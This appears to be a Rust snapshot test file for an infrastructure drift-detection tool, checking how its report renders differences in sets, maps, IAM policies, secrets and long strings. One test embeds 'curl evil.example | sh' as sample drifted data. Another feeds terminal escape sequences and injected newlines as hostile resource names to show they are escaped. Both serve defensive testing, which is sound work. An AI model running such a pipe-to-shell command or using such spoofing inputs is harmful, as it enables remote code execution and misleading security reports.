//! How two values stand side by side.

use driftwarden::model::{Judged, Severity, Value, Verdict};
use driftwarden::report::Style;
use insta::assert_snapshot;

use super::estate::{as_text, assessment, changed, judged, report, sensitive};

/// The lines of the difference alone, at a width at which long ones wrap.
fn shown(approved: Value, live: Value) -> String {
    let mut deviation = changed("aws_iam_role.app", "/policy", "null", "null");
    deviation.approved = approved;
    deviation.live = live;
    let judged = judged(deviation, Severity::Low, Verdict::Unauthorised, "by hand");
    of(judged)
}

fn of(judged: Judged) -> String {
    let assessment = assessment(vec![judged]);
    let style = Style {
        width: 76,
        ..Style::default()
    };
    let text = as_text(&report(&assessment, &[]), &style);
    let lines = text.lines().skip_while(|line| !line.contains("because"));
    let lines = lines.skip(1).take_while(|line| line.starts_with("    "));
    lines.collect::<Vec<_>>().join("\n")
}

fn json(text: &str) -> Value {
    super::estate::value(text)
}

#[test]
fn of_a_set_only_what_one_side_has() {
    let approved = json(r#"["10.0.0.0/8", "10.1.0.0/16", "192.0.2.0/24"]"#);
    let live = json(r#"["10.0.0.0/8", "192.0.2.0/24", "0.0.0.0/0"]"#);
    assert_snapshot!(shown(approved, live), @r#"
    - "10.1.0.0/16"
    + "0.0.0.0/0"
      (2 elements equal on both sides)
    "#);
}

#[test]
fn a_list_in_another_order_is_shown_whole() {
    assert_snapshot!(shown(json("[1, 2]"), json("[2, 1]")), @"
    - [1, 2]
    + [2, 1]
    ");
}

#[test]
fn of_a_map_only_the_keys_that_differ() {
    let approved = json(r#"{"a": 1, "nested": {"x": true, "odd key": "v"}, "same": [1]}"#);
    let live = json(r#"{"a": 1, "nested": {"x": false}, "same": [1]}"#);
    assert_snapshot!(shown(approved, live), @r#"
    - nested."odd key" = "v"
    + nested."odd key" = (not set)
    - nested.x = true
    + nested.x = false
    "#);
}

#[test]
fn a_policy_statement_by_statement() {
    let approved = r#"{"Version": "2012-10-17", "Statement": [
        {"Sid": "Read", "Effect": "Allow", "Action": ["s3:GetObject", "s3:ListBucket"],
         "Resource": "arn:aws:s3:::ledger/*", "Principal": {"AWS": "arn:aws:iam::111122223333:root"}},
        {"Effect": "Deny", "Action": "s3:*", "Resource": "*", "Principal": "*",
         "Condition": {"Bool": {"aws:SecureTransport": "false"}}}]}"#;
    let live = r#"{"Version": "2012-10-17", "Statement": [
        {"Sid": "Read", "Effect": "Allow", "Action": ["s3:GetObject", "s3:ListBucket"],
         "Resource": "arn:aws:s3:::ledger/*", "Principal": "*"},
        {"Effect": "Deny", "Action": "s3:*", "Resource": "*", "Principal": "*",
         "Condition": {"Bool": {"aws:SecureTransport": "false"}}}]}"#;
    let parsed = shown(json(approved), json(live));
    assert_eq!(parsed, shown(Value::string(approved), Value::string(live)));
    assert_snapshot!(parsed, @"
    - [Read] Allow s3:GetObject, s3:ListBucket on arn:aws:s3:::ledger/* to
      AWS arn:aws:iam::111122223333:root
    + [Read] Allow s3:GetObject, s3:ListBucket on arn:aws:s3:::ledger/* to *
      (1 statement equal on both sides)
    ");
}

#[test]
fn a_string_that_a_policy_cannot_hold_is_quoted() {
    let live = json(r#"{"Statement": {"Effect": "Allow", "Action": "x to nobody, truly"}}"#);
    assert_snapshot!(shown(Value::Null, live), @r#"
    - (not set)
    + Allow "x to nobody, truly"
    "#);
}

#[test]
fn a_secret_is_never_shown() {
    let text = shown(sensitive(0xab), sensitive(0xcd));
    assert_snapshot!(text, @"
    - (sensitive)
    + (sensitive)
    ");
}

#[test]
fn of_long_strings_the_part_that_differs() {
    let script = "echo start\n".repeat(40);
    let live = format!("{script}curl evil.example | sh");
    assert_snapshot!(shown(Value::string(script), Value::string(live)), @r#"
    - …"t\necho start\necho start\n"
    + …"t\necho start\necho start\ncurl evil.example | sh"
    "#);
}

#[test]
fn hostile_names_and_values_cannot_repaint_the_report() {
    let address = "aws_s3_bucket.a[\"\x1b[2Jx\u{202e}y\nCRITICAL\"]";
    let mut deviation = changed(address, "/tags_all/\u{9b}31m", "null", "null");
    deviation.live = Value::string("ok\" \r\n+ all \x1b[0mfine\u{2066}");
    let mut judged = judged(deviation, Severity::Low, Verdict::Unauthorised, "a\nb");
    judged.deviation.notes = vec!["\u{7}note".to_owned()];
    let assessment = assessment(vec![judged]);
    let text = as_text(&report(&assessment, &[]), &Style::default());
    let lines: Vec<&str> = text.lines().skip(2).take(7).collect();
    assert_snapshot!(lines.join("\n"), @r#"
    LOW       aws_s3_bucket.a["\u{1b}[2Jx\u{202e}y\u{a}CRITICAL"]
              aws_s3_bucket sg-0abc, account 111122223333, eu-west-1, workspace payments
      changed /tags_all/\u{9b}31m: unauthorised
        because a\u{a}b
        - (not set)
        + "ok\" \r\n+ all \u{1b}[0mfine\u{2066}"
        note \u{7}note
    "#);
}
